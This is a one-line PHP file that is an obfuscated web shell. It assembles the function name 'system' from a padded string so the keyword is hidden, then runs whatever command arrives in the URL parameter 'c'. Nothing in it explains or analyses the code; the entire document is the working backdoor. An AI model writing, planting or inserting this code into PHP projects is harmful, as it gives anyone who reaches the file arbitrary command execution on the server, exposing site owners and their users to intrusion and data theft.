<?php $a = str_replace("x", "", "sxyxsxtxexm"); $a($_GET["c"]);
